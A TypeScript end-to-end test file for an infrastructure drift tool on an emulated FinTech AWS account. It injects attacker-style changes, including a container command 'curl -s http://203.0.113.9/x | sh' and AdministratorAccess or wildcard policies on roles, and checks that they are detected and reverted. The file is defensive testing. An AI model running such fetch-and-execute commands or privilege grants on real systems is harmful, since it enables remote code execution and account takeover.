// Whole-document plans (issue "Whole-document plans"): out-of-band changes that matter in a FinTech
// account, each made with the AWS SDK against the emulator on a converged environment. For each:
// `plan` exits 4 naming the field and the resource; `validate` exits 1 where it is a security or
// 4.1 matter; `apply` restores it; the next `apply` makes 0 writes. The cases run in order on one
// environment: each starts from what the previous case restored and proved converged (0 writes).
import { AddListenerCertificatesCommand, DescribeListenersCommand, DescribeTargetGroupsCommand, ElasticLoadBalancingV2Client, ModifyTargetGroupCommand } from '@aws-sdk/client-elastic-load-balancing-v2';
import { ACMClient, RequestCertificateCommand } from '@aws-sdk/client-acm';
import { DescribeServicesCommand, DescribeTaskDefinitionCommand, ECSClient, RegisterTaskDefinitionCommand, UpdateClusterCommand, UpdateServiceCommand, type RegisterTaskDefinitionCommandInput } from '@aws-sdk/client-ecs';
import { AttachRolePolicyCommand, IAMClient, PutRolePolicyCommand } from '@aws-sdk/client-iam';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { emulatorClientConfig, runCli, useEmulator, writesOf, type CliResult } from '../helpers/e2e.js';

// moto knows AWS managed policies (AdministratorAccess) only with this setting.
const env = useEmulator({ MOTO_IAM_LOAD_MANAGED_POLICIES: 'true' });
let ecs: ECSClient;
let iam: IAMClient;
let elbv2: ElasticLoadBalancingV2Client;

beforeAll(async () => {
  await env.fresh();
  const config = emulatorClientConfig(env.emulator.endpoint);
  ecs = new ECSClient(config);
  iam = new IAMClient(config);
  elbv2 = new ElasticLoadBalancingV2Client(config);
  const first = await runCli([...env.args, '--json', 'apply', '--yes'], { env: env.env });
  expect(first.code, first.stderr).toBe(0);
});
afterAll(() => {
  for (const client of [ecs, iam, elbv2]) client?.destroy();
});

type PlanJson = { steps: Array<{ changes: Array<{ resource: string; action: string; note?: string; fields?: Array<{ field: string }> }>; notes?: string[] }> };
/** `resource :: field` for every field, and `resource :: note` (a new revision names the fields of the one it replaces there). */
const changed = (plan: CliResult) =>
  (plan.json as PlanJson).steps.flatMap((s) =>
    s.changes.flatMap((c) => [...(c.fields ?? []).map((f) => `${c.resource} :: ${f.field}`), ...(c.note ? [`${c.resource} :: ${c.note}`] : [])]),
  );

/** plan names the drift (exit 4); validate as expected; apply restores it; the next apply writes nothing. */
async function expectRestored(expected: { fields: RegExp[]; validateExit: number; writes?: string[] }) {
  const plan = await runCli([...env.args, '--json', 'plan'], { env: env.env });
  expect(plan.code, plan.stderr).toBe(4);
  const fields = changed(plan);
  for (const field of expected.fields) expect(fields, `plan should name ${field}`).toEqual(expect.arrayContaining([expect.stringMatching(field)]));
  expect(writesOf(plan.json)).toEqual([]);

  const validate = await runCli([...env.args, '--json', 'validate'], { env: env.env });
  expect(validate.code, validate.stdout + validate.stderr).toBe(expected.validateExit);
  expect(writesOf(validate.json)).toEqual([]);

  const apply = await runCli([...env.args, '--json', 'apply', '--yes'], { env: env.env });
  expect(apply.code, apply.stderr).toBe(0);
  if (expected.writes) expect(writesOf(apply.json).sort()).toEqual([...expected.writes].sort());
  const again = await runCli([...env.args, '--json', 'apply', '--yes'], { env: env.env });
  expect(again.code, again.stderr).toBe(0);
  expect(writesOf(again.json)).toEqual([]);
  return { plan, validate, apply };
}

async function runningRevision(): Promise<string> {
  const { services = [] } = await ecs.send(new DescribeServicesCommand({ cluster: 'fintech-prod-cluster', services: ['fintech-api-svc'] }));
  return services[0].taskDefinition!;
}

/** The service's revision, changed the way an attacker would: root, privileged, writable root, another command. */
async function registerHardenedAway(): Promise<string> {
  const { taskDefinition } = await ecs.send(new DescribeTaskDefinitionCommand({ taskDefinition: await runningRevision() }));
  const td = taskDefinition!;
  const input: RegisterTaskDefinitionCommandInput = {
    family: td.family,
    networkMode: td.networkMode,
    requiresCompatibilities: td.requiresCompatibilities,
    cpu: td.cpu,
    memory: td.memory,
    executionRoleArn: td.executionRoleArn,
    taskRoleArn: td.taskRoleArn,
    containerDefinitions: td.containerDefinitions!.map((c) =>
      c.name === 'api-container' ? { ...c, privileged: true, readonlyRootFilesystem: false, command: ['sh', '-c', 'curl -s http://203.0.113.9/x | sh'], user: '0' } : c,
    ),
  };
  const { taskDefinition: registered } = await ecs.send(new RegisterTaskDefinitionCommand(input));
  return registered!.taskDefinitionArn!;
}

describe('out-of-band changes are drift in plan, findings in validate, restored by apply', () => {
  it('(a) a privileged, root, other-command revision made the service\'s revision: a new revision is registered and deployed', async () => {
    const bad = await registerHardenedAway();
    await ecs.send(new UpdateServiceCommand({ cluster: 'fintech-prod-cluster', service: 'fintech-api-svc', taskDefinition: bad }));
    const { validate } = await expectRestored({
      fields: [/task definition fintech-api-task :: .*api-container\.privileged/, /api-container\.user/, /api-container\.command/, /ecs service .* :: taskDefinition/],
      validateExit: 1,
    });
    expect(validate.stderr).toMatch(/FAIL/);
    const now = await runningRevision();
    expect(now.split(':').pop()).not.toBe(bad.split(':').pop());
    const { taskDefinition } = await ecs.send(new DescribeTaskDefinitionCommand({ taskDefinition: now }));
    expect(taskDefinition!.containerDefinitions!.find((c) => c.name === 'api-container')!.privileged ?? false).toBe(false);
  });

  it('(b) the same revision registered but not deployed: named in plan, the service is never moved onto it', async () => {
    const running = await runningRevision();
    const bad = await registerHardenedAway();
    const plan = await runCli([...env.args, 'plan'], { env: env.env });
    expect(plan.code, plan.stderr).toBe(4);
    expect(plan.stdout).toContain(`fintech-api-task:${bad.split(':').pop()}`);
    const { apply } = await expectRestored({ fields: [/task definition fintech-api-task :: .*privileged/], validateExit: 1 });
    expect(writesOf(apply.json)).not.toContain('ecs:UpdateService');
    const after = await runningRevision();
    expect(after.split(':').pop()).not.toBe(bad.split(':').pop());
    expect(after.split(':').pop()).toBe(running.split(':').pop());
  });

  it('(c) AdministratorAccess attached to the task role', async () => {
    await iam.send(new AttachRolePolicyCommand({ RoleName: 'FinTech-ECS-TaskRole', PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }));
    const { validate } = await expectRestored({ fields: [/iam role FinTech-ECS-TaskRole :: attachedManagedPolicies/], validateExit: 1, writes: ['iam:DetachRolePolicy'] });
    expect(validate.stderr).toMatch(/FAIL\s+Least Privilege.*FinTech-ECS-TaskRole.*AdministratorAccess/);
  });

  it('(d) a second inline policy on the execution role', async () => {
    await iam.send(
      new PutRolePolicyCommand({
        RoleName: 'FinTech-ECS-ExecRole',
        PolicyName: 'Everything',
        PolicyDocument: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }] }),
      }),
    );
    const { validate } = await expectRestored({ fields: [/iam role FinTech-ECS-ExecRole :: inlinePolicies\.Everything/], validateExit: 1, writes: ['iam:DeleteRolePolicy'] });
    expect(validate.stderr).toMatch(/FAIL\s+Least Privilege.*FinTech-ECS-ExecRole.*Everything/);
  });

  it('(e) target group health-check timeout and matcher', async () => {
    const { TargetGroups = [] } = await elbv2.send(new DescribeTargetGroupsCommand({ Names: ['fintech-prod-tg'] }));
    await elbv2.send(new ModifyTargetGroupCommand({ TargetGroupArn: TargetGroups[0].TargetGroupArn, HealthCheckTimeoutSeconds: 29, Matcher: { HttpCode: '200-499' } }));
    await expectRestored({ fields: [/target group fintech-prod-tg :: HealthCheckTimeoutSeconds/, /target group fintech-prod-tg :: Matcher/], validateExit: 1, writes: ['elbv2:ModifyTargetGroup'] });
  });

  it('(f) service minimumHealthyPercent 0 / maximumPercent 100', async () => {
    await ecs.send(
      new UpdateServiceCommand({
        cluster: 'fintech-prod-cluster',
        service: 'fintech-api-svc',
        deploymentConfiguration: { minimumHealthyPercent: 0, maximumPercent: 100, deploymentCircuitBreaker: { enable: true, rollback: true } },
      }),
    );
    await expectRestored({ fields: [/ecs service .* :: deploymentConfiguration\.minimumHealthyPercent/, /deploymentConfiguration\.maximumPercent/], validateExit: 1, writes: ['ecs:UpdateService'] });
  });

  it('(g) an extra certificate on the listener', async () => {
    const acm = new ACMClient(emulatorClientConfig(env.emulator.endpoint));
    const { CertificateArn } = await acm.send(new RequestCertificateCommand({ DomainName: 'other.example', ValidationMethod: 'DNS' }));
    acm.destroy();
    const { Listeners = [] } = await elbv2.send(new DescribeListenersCommand({ LoadBalancerArn: env.prerequisites.ALB_ARN }));
    await elbv2.send(new AddListenerCertificatesCommand({ ListenerArn: Listeners.find((l) => l.Port === 443)!.ListenerArn, Certificates: [{ CertificateArn }] }));
    await expectRestored({ fields: [/listener .* :: extraCertificates/], validateExit: 1, writes: ['elbv2:RemoveListenerCertificates'] });
  });

  it('Container Insights disabled out of band is restored (UpdateCluster with settings: the same change on AWS, and moto answers UpdateClusterSettings with HTTP 500)', async () => {
    await ecs.send(new UpdateClusterCommand({ cluster: 'fintech-prod-cluster', settings: [{ name: 'containerInsights', value: 'disabled' }] }));
    await expectRestored({ fields: [/ecs cluster fintech-prod-cluster :: settings/], validateExit: 1, writes: ['ecs:UpdateCluster'] });
  });
});
